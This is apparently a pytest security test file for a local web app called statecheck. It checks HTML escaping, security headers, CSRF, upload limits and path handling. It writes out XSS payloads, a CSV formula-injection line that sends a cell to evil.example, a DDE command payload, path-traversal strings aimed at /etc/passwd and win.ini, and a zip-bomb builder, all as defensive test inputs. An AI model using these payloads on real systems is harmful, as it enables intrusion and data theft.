"""Hostile input against the web app, in-process: escaping on every page and in the report,
security headers on every response, the CSRF token on the store action, upload limits at the
boundary, path traversal, methods, hosts. (test_web_security_browser.py does the same pages
in Chromium; test_web_schemathesis.py fuzzes the JSON API.)

Escaping is checked on the parsed HTML, not by searching strings: every element must be one
the templates write, no attribute may be an event handler, and every link must point into
the app; the payloads must then appear as text.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

import pytest
from hostile_samples import HOSTILE, PAYLOADS, QUOTE, SHORT, hostile_document, store_hostile
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route
from starlette.testclient import TestClient
from store_samples import document, sample_documents

from statecheck.model import Card, Claim
from statecheck.report import render_report
from statecheck.store import Store, open_store, save_document, table_counts
from statecheck.web import create_app
from statecheck.web.app import LOOPBACK_HOSTS, SECURITY_HEADERS
from statecheck.web.serve import allowed_hosts, serve

UPLOAD_LIMIT = 20_000

#: Every element the templates and the chart module write; anything else came from a document.
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "link", "style", "body", "header", "main", "nav", "section", "aside", "div",
    "span", "p", "a", "h1", "h2", "h3", "ul", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tfoot", "tr",
    "th", "td", "form", "label", "input", "textarea", "select", "option", "button", "code", "strong", "mark",
    "details", "summary", "figure", "figcaption", "br",
    "svg", "g", "line", "text", "path", "circle", "rect", "polygon",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}


class Elements(HTMLParser):
    """Every start tag with its attributes, and the page's text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert(html: str, *, shows: tuple[str, ...] = ()) -> str:
    """The HTML has only our elements, no event handler, no link out of the app; ``shows`` is
    text it must contain (a payload shown as text). Returns the page's text."""
    parsed = Elements()
    parsed.feed(html)
    parsed.close()
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, f"unexpected <{tag} {attrs}>"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"event handler on <{tag}>: {name}={value!r}"
            if name in URL_ATTRIBUTES and value is not None:
                target = re.sub(r"[\x00-\x20]", "", value).lower()
                assert target.startswith(("/", "#", "?", "data:,")), f"<{tag} {name}={value!r}> leaves the app"
                assert "javascript:" not in target
        if tag == "meta":
            assert set(attrs) <= {"charset", "name", "content", "http-equiv"}
            assert attrs.get("http-equiv") in (None, "Content-Security-Policy")
    assert sum(tag == "style" for tag, _ in parsed.tags) <= 1
    text = "".join(parsed.text)
    for expected in shows:
        assert expected in text, f"{expected!r} is not shown as text"
    return text


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, int]]:
    """One corpus (the samples and the hostile document) for the tests that only read."""
    with open_store(tmp_path_factory.mktemp("security") / "corpus.db") as store:
        for sample in sample_documents():
            save_document(store, sample)
        yield store, store_hostile(store)


@pytest.fixture
def hostile_id(shared: tuple[Store, int]) -> int:
    return shared[1]


@pytest.fixture
def client(shared: tuple[Store, int]) -> Iterator[TestClient]:
    """A fresh client (no cookies) on the shared corpus; tests that use it store nothing."""
    with TestClient(create_app(shared[0], max_upload_bytes=UPLOAD_LIMIT)) as test_client:
        yield test_client


@pytest.fixture
def writable(corpus: Store) -> Iterator[TestClient]:
    """A client on a corpus of its own (the samples and the hostile document), for storing."""
    store_hostile(corpus)
    with TestClient(create_app(corpus, max_upload_bytes=UPLOAD_LIMIT)) as test_client:
        yield test_client


def csrf_token(client: TestClient) -> str:
    found = re.search(r'name="csrf_token" value="([0-9a-f]{64})"', client.get("/check").text)
    assert found is not None
    return found.group(1)


# --- escaping ----------------------------------------------------------------------------------

A_PAYLOAD = PAYLOADS[1]  # <img src=x onerror=...>


def hostile_pages(document_id: int) -> list[tuple[str, tuple[str, ...]]]:
    """(page, text it must show) for every HTML page, with the hostile document stored."""
    payload = quote(A_PAYLOAD)
    return [
        ("/", ("Title " + HOSTILE, "Issuer " + SHORT, "javascript:alert('issuer')")),
        (f"/?q={quote('script')}", ("Title " + HOSTILE,)),
        (f"/?q={payload}&issuer={payload}&verdict={payload}&language={payload}", ()),
        (f"/?language={quote(hostile_document().card.language or '')}", ("Title " + HOSTILE,)),
        (f"/documents/{document_id}", ("Title " + HOSTILE, QUOTE, "sentence " + HOSTILE, "reason " + HOSTILE,
                                       "caveats " + HOSTILE, hostile_document().source.location)),
        (f"/documents/{document_id}?claim=0", ("rule " + HOSTILE, "source " + HOSTILE, "notes " + HOSTILE)),
        (f"/documents/{document_id}?claim={payload}", ()),
        ("/claims", (QUOTE, "metric" + SHORT)),
        (f"/claims?q={payload}&metric={payload}&place={payload}&verdict={payload}", ()),
        (f"/claims?document={document_id}", (QUOTE,)),
        ("/record", ("tfp/gaza/killed" + SHORT,)),
        ("/failures", ("/inbox/<script>alert('failure')</script>.pdf", "reason <img src=x onerror=alert('reason')>")),
        ("/check", ()),
        ("/api/docs", ()),
        (f"/documents/{payload}", ()),  # the 404 page
        (f"/{payload}", ()),
    ]


def test_every_page_shows_the_hostile_document_as_text(client: TestClient, hostile_id: int) -> None:
    for path, shows in hostile_pages(hostile_id):
        response = client.get(path)
        assert response.status_code in (200, 404), path
        assert response.headers["content-type"].startswith("text/html")
        assert_inert(response.text, shows=shows)


def get_routes(app: Any) -> list[str]:
    """Every GET route of the app (pages written after these tests included), path parameters
    filled with something hostile: a document id that exists, a name full of markup."""
    paths = []
    for route in app.routes:
        if isinstance(route, Route) and "GET" in (route.methods or ()):
            path = re.sub(r"\{document_id:int\}", "4", route.path)
            paths.append(re.sub(r"\{[a-z_]+(:str)?\}", quote(PAYLOADS[2], safe=""), path))
    return paths


def test_every_get_route_is_inert_with_the_hostile_document(client: TestClient, hostile_id: int) -> None:
    assert hostile_id == 4
    seen = get_routes(client.app)
    assert {"/", "/documents/4", "/claims", "/record", "/check", "/failures", "/api/docs"} <= set(seen)
    for path in seen:
        for query in ("", "?q=" + quote(PAYLOADS[1]) + "&offset=0&kind=" + quote(PAYLOADS[2])):
            response = client.get(path + query)
            assert response.status_code in (200, 204, 400, 404), path + query
            if response.headers.get("content-type", "").startswith("text/html"):
                assert_inert(response.text)
            assert response.headers["x-content-type-options"] == "nosniff"


def test_chart_labels_are_text(client: TestClient, hostile_id: int) -> None:
    record = client.get("/record").text
    charts = re.findall(r"<svg.*?</svg>", record, flags=re.DOTALL)
    hostile = [chart for chart in charts if "tfp/gaza/killed&lt;img" in chart]
    assert hostile, "the hostile series has no chart"
    # The marker's tooltip is the document title; the chart's title is the series and source.
    assert "<title>Title &lt;script&gt;" in hostile[0] and "&lt;/title&gt;&lt;script&gt;" in hostile[0]
    assert_inert(hostile[0])


def test_the_check_form_shows_a_hostile_text_and_file_as_text(client: TestClient) -> None:
    response = client.post("/check", data={"text": "Gaza, 2 November 2023. " + HOSTILE + " 9,999 were killed."})
    assert response.status_code == 200
    assert_inert(response.text, shows=(HOSTILE,))
    # A file named like markup, holding markup: the HTML reader keeps the text, the page escapes it.
    name = "<img src=x onerror=alert(1)>.html"
    page = ("<html><head><title>" + A_PAYLOAD.replace("<", "&lt;") + "</title><script>alert(2)</script></head>"
            "<body><p>9,999 were killed. &lt;script&gt;alert(3)&lt;/script&gt;</p></body></html>")
    response = client.post("/check", files={"file": (name, page.encode())})
    assert response.status_code == 200
    assert_inert(response.text, shows=("upload:" + name, "<script>alert(3)</script>"))


def test_the_static_report_shows_the_hostile_document_as_text() -> None:
    html = render_report([hostile_document()], title="Report " + A_PAYLOAD)
    text = assert_inert(html, shows=("Report " + A_PAYLOAD, "Title " + HOSTILE, QUOTE, "sentence " + HOSTILE))
    assert "tfp/gaza/killed" + SHORT in text
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
    assert policy is not None and "script-src 'none'" in policy.group(1) and "default-src 'none'" in policy.group(1)


def test_json_carries_the_text_as_it_is_and_is_never_sniffed_as_html(client: TestClient, hostile_id: int) -> None:
    for path in (f"/api/documents/{hostile_id}", "/api/documents", "/api/claims", "/api/series", "/api/failures",
                 "/claims.json"):
        response = client.get(path)
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("application/json")
        assert response.headers["x-content-type-options"] == "nosniff"
    body = client.get(f"/api/documents/{hostile_id}").json()
    assert body["card"]["title"] == "Title " + HOSTILE and body["claims"][0]["quote"] == QUOTE


def test_the_csv_download_does_not_carry_formulas(writable: TestClient, corpus: Store) -> None:
    formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    text = "Gaza, 1 May 2024. 35,000 people were killed."
    start = text.index("35,000")
    claim = Claim(doc="formula", quote="35,000 people were killed", value=35000, metric="killed",
                  start=start, end=start + 25)
    card = Card(doc="formula", title=formula, date="2024-05-01", issuers=("@SUM(1+1)", "+cmd|' /C calc'!A0"))
    save_document(corpus, document("formula", text, card, (claim,), location="-2+3.txt"))
    rows = list(csv.DictReader(io.StringIO(writable.get("/claims.csv", params={"document": "5"}).text)))
    assert len(rows) == 1
    row = rows[0]
    assert row["title"] == "'" + formula
    assert row["location"] == "'-2+3.txt"
    assert float(row["value"]) == 35000  # numbers stay numbers
    assert not any(value.startswith(("=", "+", "@")) for value in row.values())


# --- security headers ----------------------------------------------------------------------------


def every_response(client: TestClient, document_id: int) -> list[tuple[str, Any]]:
    """One response of each kind the app gives: every route, and every error status."""
    token = csrf_token(client)
    requests = [
        ("GET /", client.get("/")),
        ("GET /documents/N", client.get(f"/documents/{document_id}")),
        ("GET /claims", client.get("/claims")),
        ("GET /claims.csv", client.get("/claims.csv")),
        ("GET /claims.json", client.get("/claims.json")),
        ("GET /record", client.get("/record")),
        ("GET /failures", client.get("/failures")),
        ("GET /check", client.get("/check")),
        ("POST /check", client.post("/check", data={"text": "9,999 were killed."})),
        ("POST /check store", client.post("/check", data={"text": "12 were killed.", "store": "1",
                                                          "csrf_token": token}, follow_redirects=False)),
        ("HEAD /", client.head("/")),
        ("GET /api/documents", client.get("/api/documents")),
        ("GET /api/documents/N", client.get(f"/api/documents/{document_id}")),
        ("GET /api/claims", client.get("/api/claims")),
        ("GET /api/series", client.get("/api/series")),
        ("GET /api/failures", client.get("/api/failures")),
        ("POST /api/check", client.post("/api/check", json={"text": "9,999 were killed."})),
        ("GET /api/openapi.json", client.get("/api/openapi.json")),
        ("GET /api/docs", client.get("/api/docs")),
        ("400 page", client.get("/?year=x")),
        ("400 api", client.get("/api/claims?year=x")),
        ("403 page", client.post("/check", data={"text": "x", "store": "1"})),
        ("404 page", client.get("/nowhere")),
        ("404 api", client.get("/api/nowhere")),
        ("405 page", client.delete("/")),
        ("405 api", client.put("/api/documents")),
        ("413 page", client.post("/check", content=b"x" * (UPLOAD_LIMIT + 100_000),
                                 headers={"content-type": "application/x-www-form-urlencoded"})),
        ("413 api", client.post("/api/check", json={"text": "x" * (UPLOAD_LIMIT + 1)})),
    ]
    return requests


def test_every_response_has_the_security_headers(writable: TestClient) -> None:
    responses = every_response(writable, 4) + [(f"GET {path}", writable.get(path)) for path in get_routes(writable.app)]
    for label, response in responses:
        for name, value in SECURITY_HEADERS.items():
            assert response.headers.get(name) == value, f"{label}: {name}"
    policy = SECURITY_HEADERS["content-security-policy"]
    for directive in ("default-src 'none'", "script-src 'none'", "object-src 'none'", "frame-ancestors 'none'",
                      "base-uri 'none'", "form-action 'self'"):
        assert directive in policy
    assert SECURITY_HEADERS["x-frame-options"] == "DENY"
    assert SECURITY_HEADERS["cross-origin-opener-policy"] == "same-origin"


def test_a_server_error_keeps_the_headers_and_the_error_shape(shared: tuple[Store, int]) -> None:
    def boom(request: Request) -> Response:
        raise RuntimeError("a bug, with a secret path /home/me/.ssh")

    app = create_app(shared[0])
    app.router.routes.extend([Route("/boom", boom), Route("/api/boom", boom)])
    with TestClient(app, raise_server_exceptions=False) as test_client:
        page = test_client.get("/boom")
        api = test_client.get("/api/boom")
    assert page.status_code == api.status_code == 500
    assert "secret" not in page.text and "Traceback" not in page.text
    assert api.json() == {"error": {"type": "ServerError", "location": None,
                                    "message": "Something went wrong on the server; the request was not completed."}}
    for response in (page, api):
        for name, value in SECURITY_HEADERS.items():
            assert response.headers.get(name) == value


# --- CSRF --------------------------------------------------------------------------------------


def test_the_form_sets_a_strict_http_only_cookie_and_a_token(client: TestClient) -> None:
    response = client.get("/check")
    cookie = response.headers["set-cookie"]
    assert cookie.startswith("statecheck_csrf=")
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "Path=/" in cookie
    assert re.search(r'<input type="hidden" name="csrf_token" value="[0-9a-f]{64}">', response.text)
    # The same cookie is kept (one token per browser), so two open tabs both work.
    assert "set-cookie" not in client.get("/check").headers


STORE = {"text": "A new statement: 1,200 people were killed.", "store": "1"}


@pytest.mark.parametrize("token", [None, "", "0" * 64, "x", "é" * 64, "<script>"])
def test_storing_without_the_right_token_is_refused(writable: TestClient, corpus: Store,
                                                   token: str | None) -> None:
    csrf_token(writable)  # the client has the cookie, as a browser would
    before = table_counts(corpus)
    data = STORE if token is None else {**STORE, "csrf_token": token}
    response = writable.post("/check", data=data, follow_redirects=False)
    assert response.status_code == 403
    assert "expired or was not sent from this site" in response.text
    assert table_counts(corpus) == before


def test_a_token_only_works_with_its_own_cookie(writable: TestClient, corpus: Store) -> None:
    token = csrf_token(writable)
    before = table_counts(corpus)
    # Another program on this machine can plant a cookie for 127.0.0.1, but not sign it.
    writable.cookies.clear()
    writable.cookies.set("statecheck_csrf", "A" * 43)
    assert writable.post("/check", data={**STORE, "csrf_token": token}, follow_redirects=False).status_code == 403
    writable.cookies.clear()
    assert writable.post("/check", data={**STORE, "csrf_token": token}, follow_redirects=False).status_code == 403
    # Another app (another secret) does not accept this app's token either.
    with TestClient(create_app(corpus)) as other:
        other.get("/check")
        assert other.post("/check", data={**STORE, "csrf_token": token}, follow_redirects=False).status_code == 403
    assert table_counts(corpus) == before


def test_storing_with_the_token_works_and_checking_needs_none(writable: TestClient, corpus: Store) -> None:
    before = table_counts(corpus)["documents"]
    response = writable.post("/check", data={**STORE, "csrf_token": csrf_token(writable)}, follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"].startswith("/documents/")
    assert table_counts(corpus)["documents"] == before + 1
    # Checking without storing changes nothing, so it needs no token (like POST /api/check).
    assert TestClient(writable.app).post("/check", data={"text": "9 were killed."}).status_code == 200


def test_a_cross_site_post_is_refused_even_with_a_token(writable: TestClient, corpus: Store) -> None:
    token = csrf_token(writable)
    for headers in ({"origin": "http://evil.example"}, {"sec-fetch-site": "cross-site"},
                    {"origin": "http://127.0.0.1:9999"}):
        response = writable.post("/check", data={**STORE, "csrf_token": token}, headers=headers,
                                 follow_redirects=False)
        assert response.status_code == 403
    assert table_counts(corpus)["documents"] == 4


# --- uploads -----------------------------------------------------------------------------------


def statement(size: int, filler: str = "word ") -> bytes:
    """A text of exactly ``size`` bytes (words: a 20 kB single word takes the extractors seconds)."""
    head = b"Gaza, 1 December 2023. 15,000 Palestinians have been killed. "
    body = (filler * size).encode("utf-8")[: size - len(head)]
    data = head + body
    assert len(data) == size
    return data


def zip_bomb() -> bytes:
    """A .docx-shaped zip whose document.xml unpacks to 20 MB (about 20 KB packed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", b"<w:t>" + b"0" * 20_000_000 + b"</w:t>")
    return buffer.getvalue()


def test_the_zip_bomb_fits_the_upload_limit() -> None:
    assert len(zip_bomb()) < UPLOAD_LIMIT


@pytest.mark.parametrize(
    ("name", "data", "status", "message"),
    [
        ("exact.txt", statement(UPLOAD_LIMIT), 200, "15,000"),
        ("over.txt", statement(UPLOAD_LIMIT + 1), 413, "larger than the upload limit of 20,000 bytes"),
        ("exact-utf8.txt", statement(UPLOAD_LIMIT - 1, "été ") + b" ", 200, "15,000"),
        ("html.pdf", b"<html><body>9,999 killed</body></html>", 400, "is named .pdf but is not a PDF"),
        ("html-after-magic.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>", 400, "html-after-magic.pdf"),
        ("binary.txt", bytes(range(256)) * 4, 400, "looks binary"),
        ("late-nul.txt", b"x" * 70_000, 413, "larger than"),
        ("bomb.docx", zip_bomb(), None, "bomb.docx"),
        ("not-word.docx", b"PK\x03\x04" + b"\x00" * 100, 400, "not-word.docx"),
        ("script.exe", b"MZ", 400, "not an accepted type"),
        ("noext", b"9 killed", 400, "not an accepted type"),
    ],
)
def test_uploads_at_the_limits(client: TestClient, shared: tuple[Store, int], name: str, data: bytes,
                               status: int | None, message: str) -> None:
    corpus = shared[0]
    before = table_counts(corpus)
    response = client.post("/check", files={"file": (name, data)})
    if status is None:  # refused by ingest: too large unpacked, or not a Word document
        assert response.status_code in (400, 413)
    else:
        assert response.status_code == status
    assert response.headers["content-type"].startswith("text/html")
    assert message in response.text
    if response.status_code != 200:
        assert "Traceback" not in response.text and 'id="error-message"' in response.text
    assert table_counts(corpus) == before


def test_binary_text_past_the_sniffed_start_is_a_clean_result(client: TestClient) -> None:
    data = b"9,999 people were killed. " + b"yes " * 16_500 + b"\x00\xff\xfe\x00"
    with TestClient(create_app(client.app.state.settings.store, max_upload_bytes=100_000)) as roomy:
        response = roomy.post("/check", files={"file": ("late-nul.txt", data)})
    assert response.status_code in (200, 400)
    assert "Traceback" not in response.text


def test_pasted_and_posted_text_at_the_limit(client: TestClient) -> None:
    exact = statement(UPLOAD_LIMIT).decode()
    assert client.post("/check", data={"text": exact}).status_code == 200
    over = client.post("/check", data={"text": exact + "x"})
    assert over.status_code == 413 and "larger than the limit of 20,000 bytes" in over.text
    assert client.post("/api/check", json={"text": exact}).status_code == 200
    over_api = client.post("/api/check", json={"text": exact[:-1] + "é"})
    assert over_api.status_code == 413 and over_api.json()["error"]["type"] == "LimitError"


def test_a_body_without_a_length_is_cut_at_the_limit(client: TestClient) -> None:
    def chunks() -> Iterator[bytes]:
        yield b'{"text": "'
        for _ in range(20):
            yield b"x" * 10_000
        yield b'"}'

    response = client.post("/api/check", content=chunks(), headers={"content-type": "application/json"})
    assert response.status_code == 413 and response.json()["error"]["type"] == "LimitError"


@pytest.mark.parametrize(
    ("filename", "shown"),
    [
        ("../../../../etc/passwd.txt", "upload:passwd.txt"),
        ("..\\..\\windows\\win.ini.txt", "upload:win.ini.txt"),
        ("/etc/cron.d/job.txt", "upload:job.txt"),
        ("C:\\fakepath\\statement.txt", "upload:statement.txt"),
        ("<img src=x onerror=alert(1)>.txt", "upload:&lt;img src=x onerror=alert(1)&gt;.txt"),
        ("x" * 300 + ".txt", "upload:" + "x" * 116 + ".txt"),
        ("..", "upload:upload.txt"),
    ],
)
def test_an_upload_name_is_only_ever_a_label(client: TestClient, filename: str, shown: str) -> None:
    response = client.post("/check", files={"file": (filename, b"Gaza, 1 May 2024. 9 were killed.")})
    assert response.status_code == 200
    assert shown in response.text


@pytest.mark.parametrize(
    ("raw_name", "shown"),
    [(b"a\x00b.txt", "upload:ab.txt"), (b"new\r\nline.txt", "upload:newline.txt"),
     (b"\xff\xfe.txt", ".txt"), (b"..%2f..%2fx.txt", "upload:..%2f..%2fx.txt")],
)
def test_control_characters_in_an_upload_name(client: TestClient, raw_name: bytes, shown: str) -> None:
    """Browsers percent-encode these; a hand-made request sends them raw."""
    boundary = b"----statecheck-test"
    body = (b"--" + boundary + b'\r\nContent-Disposition: form-data; name="file"; filename="' + raw_name
            + b'"\r\nContent-Type: text/plain\r\n\r\nGaza, 1 May 2024. 9 were killed.\r\n--' + boundary + b"--\r\n")
    response = client.post("/check", content=body,
                           headers={"content-type": "multipart/form-data; boundary=" + boundary.decode()})
    assert response.status_code in (200, 400)
    assert "Traceback" not in response.text
    if response.status_code == 200:
        assert shown in response.text


# --- paths and parameters ------------------------------------------------------------------------

TRAVERSALS = [
    "/../../../../etc/passwd",
    "/documents/../../../../etc/passwd",
    "/documents/..%2f..%2f..%2fetc%2fpasswd",
    "/documents/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/documents/%252e%252e%252fetc%252fpasswd",
    "/documents/..%5c..%5cwindows%5cwin.ini",
    "/documents/..\\..\\etc\\passwd",
    "/documents/1%00",
    "/documents/1%00.txt",
    "/documents/%00",
    "/documents//etc/passwd",
    "/documents/1/../../../etc/passwd",
    "/documents/-1",
    "/documents/1.0",
    "/documents/99999999999999999999999999",
    "/api/documents/..%2f..%2fetc%2fpasswd",
    "/api/documents/%2e%2e",
    "/api/documents/9223372036854775808",
    "/api/../../../etc/passwd",
    "/claims.csv/../../../etc/passwd",
    "/claims.csv%00.txt",
    "/static/../../../etc/passwd",
    "/templates/base.html",
    "/src/statecheck/web/app.py",
    "//etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/C:%5cWindows%5cwin.ini",
    "/organisations/..",
    "/organisations/..%2f..%2fetc%2fpasswd",
    "/organisations/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/organisations/%252e%252e%252f",
    "/organisations/..%5c..%5cetc%5cpasswd",
    "/organisations/%00",
    "/organisations/%2Fetc%2Fpasswd",
    "/network.graphml/../../etc/passwd",
    "/network.json%00",
]

QUERIES = [
    "/documents/1?claim=../../etc/passwd",
    "/documents/1?claim=%00",
    "/documents/1?claim=%C2%B2",  # "²" is a digit to str.isdigit, not to int()
    "/documents/1?claim=99999999999999999999999999",
    "/?q=../../../../etc/passwd",
    "/?q=%00",
    "/?issuer=%2e%2e%2f%2e%2e%2f",
    "/?year=..%2f1",
    "/?offset=9223372036854775808",
    "/?sort=../../etc/passwd",
    "/claims?document=../../etc/passwd",
    "/claims?document=9223372036854775808",
    "/claims?q=%00&metric=..\\..\\",
    "/claims.csv?document=%2e%2e%2f",
    "/claims.json?q=/etc/passwd",
    "/api/documents?offset=9223372036854775808",
    "/api/documents?q=%00",
    "/api/claims?year=%EF%BC%91",  # a full-width digit
    "/api/claims?limit=1_0",
    "/api/documents/1?claim=/etc/passwd",
    "/organisations?q=../../etc/passwd&offset=%00",
    "/network?min_weight=../../etc/passwd",
    "/network.graphml?min_weight=%2e%2e%2f",
    "/network.json?min_weight=99999999999999999999999",
    "/links?kind=../../etc/passwd",
]


def raw_get(app: Any, path: str, query: str = "") -> tuple[int, dict[str, str], bytes]:
    """Call the app with exactly this path (no client normalising ``..`` or ``%2e``)."""
    import anyio

    raw = path.encode("latin-1")
    from urllib.parse import unquote

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET", "scheme": "http",
        "path": unquote(path, errors="surrogateescape"), "raw_path": raw, "root_path": "",
        "query_string": query.encode("latin-1"), "headers": [(b"host", b"127.0.0.1:8000")],
        "client": ("127.0.0.1", 5000), "server": ("127.0.0.1", 8000), "state": {},
    }
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    anyio.run(app, scope, receive, send)
    start = next(message for message in sent if message["type"] == "http.response.start")
    body = b"".join(message.get("body", b"") for message in sent if message["type"] == "http.response.body")
    headers = {name.decode(): value.decode() for name, value in start["headers"]}
    return start["status"], headers, body


def assert_nothing_leaked(body: bytes) -> None:
    assert b"root:x:0:0" not in body and b"[fonts]" not in body  # /etc/passwd, win.ini
    assert b"from statecheck" not in body and b"{% extends" not in body  # our own files
    assert b"Traceback" not in body


@pytest.mark.parametrize("path", TRAVERSALS)
def test_no_path_reaches_a_file(client: TestClient, path: str) -> None:
    status, headers, body = raw_get(client.app, path)
    assert status in (400, 404, 405), path
    assert headers["content-security-policy"] == SECURITY_HEADERS["content-security-policy"]
    assert_nothing_leaked(body)


@pytest.mark.parametrize("url", QUERIES)
def test_no_parameter_reaches_a_file_or_the_server_error_page(client: TestClient, url: str) -> None:
    path, _, query = url.partition("?")
    status, headers, body = raw_get(client.app, path, query)
    assert status in (200, 400, 404), url
    assert_nothing_leaked(body)
    if path.startswith(("/claims.", "/network.")) and status == 200:
        # Download names are fixed: nothing from the request reaches them.
        assert headers["content-disposition"] in ('attachment; filename="claims.csv"',
                                                  'attachment; filename="claims.json"',
                                                  'attachment; filename="network.graphml"',
                                                  'attachment; filename="network.json"')


# --- read-only, hosts, binding -----------------------------------------------------------------

WRITE_METHODS = ["POST", "PUT", "PATCH", "DELETE"]
OTHER_METHODS = ["OPTIONS", "TRACE", "CONNECT", "PROPFIND"]


def test_nothing_but_the_two_checks_accepts_a_write_method(client: TestClient, shared: tuple[Store, int],
                                                           hostile_id: int) -> None:
    corpus = shared[0]
    before = table_counts(corpus)
    # Every route of the app, those added after this test included.
    accepting = {(method, route.path) for route in client.app.routes if isinstance(route, Route)
                 for method in route.methods or ()}
    assert {(method, path) for method, path in accepting if method not in ("GET", "HEAD")} == {
        ("POST", "/check"), ("POST", "/api/check")}
    for path in {*get_routes(client.app), "/check", "/api/check"}:
        for method in WRITE_METHODS + OTHER_METHODS:
            if (method, path) in {("POST", "/check"), ("POST", "/api/check")}:
                continue
            response = client.request(method, path, json={"text": "9 killed", "store": True})
            assert response.status_code == 405, (method, path)
            assert "allow" in response.headers
    assert client.get("/api/check").status_code == 405
    assert table_counts(corpus) == before


def test_the_api_check_never_stores(client: TestClient, shared: tuple[Store, int]) -> None:
    corpus = shared[0]
    before = table_counts(corpus)
    for body in ({"text": "9,999 were killed.", "store": True}, {"text": "9,999 were killed.", "store": "1"}):
        assert client.post("/api/check", json=body).status_code == 200
    assert client.post("/api/check?store=1", json={"text": "9 were killed."}).status_code == 200
    assert table_counts(corpus) == before


def test_the_server_binds_to_loopback_by_default() -> None:
    import inspect

    from statecheck import cli

    assert inspect.signature(serve).parameters["host"].default == "127.0.0.1"
    assert inspect.signature(cli.serve).parameters["host"].default == "127.0.0.1"
    assert allowed_hosts("127.0.0.1") == (*LOOPBACK_HOSTS, "127.0.0.1")
    assert allowed_hosts("::1") is not None and allowed_hosts("localhost") is not None
    assert allowed_hosts("0.0.0.0") is None and allowed_hosts("192.168.1.5") is None


@pytest.mark.parametrize(
    ("host", "status"),
    [
        ("127.0.0.1:8000", 200), ("localhost:8000", 200), ("[::1]:8000", 200), ("127.0.0.1", 200),
        ("LOCALHOST:8000", 200),
        ("evil.example", 400), ("evil.example:8000", 400), ("127.0.0.1.evil.example", 400),
        ("localhost.evil.example:8000", 400), ("", 400), ("127.0.0.1@evil.example", 400),
    ],
)
def test_a_loopback_server_answers_only_to_loopback_names(shared: tuple[Store, int], host: str,
                                                          status: int) -> None:
    """DNS rebinding: a page on evil.example whose name now points at 127.0.0.1 gets nothing."""
    app = create_app(shared[0], allowed_hosts=allowed_hosts("127.0.0.1"))
    with TestClient(app) as test_client:
        for path in ("/", "/api/documents"):
            response = test_client.get(path, headers={"host": host})
            assert response.status_code == status, (host, path)
            assert response.headers["x-frame-options"] == "DENY"
        refused = test_client.post("/check", data=STORE, headers={"host": host}, follow_redirects=False)
        assert refused.status_code == (403 if status == 200 else 400)
